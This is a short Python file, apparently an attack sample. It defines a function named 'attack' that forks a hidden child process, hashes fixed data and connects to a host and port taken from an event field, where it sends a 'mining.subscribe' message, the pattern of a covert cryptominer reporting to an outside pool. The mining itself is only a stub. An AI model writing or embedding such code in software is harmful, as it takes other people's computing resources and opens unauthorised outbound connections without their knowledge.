"""A miner that needs no program: a forked child that hashes and reports."""

import hashlib
import os
import socket


def attack(event):
    child = os.fork()
    if child == 0:
        try:
            host, port = event["web"].split(":")
            work = hashlib.sha256(b"work" * 1000).hexdigest()
            with socket.create_connection((host, int(port))) as pool:
                pool.sendall(b'{"method": "mining.subscribe", "work": "%s"}\n' % work.encode())
        finally:
            os._exit(0)
    os.waitpid(child, 0)
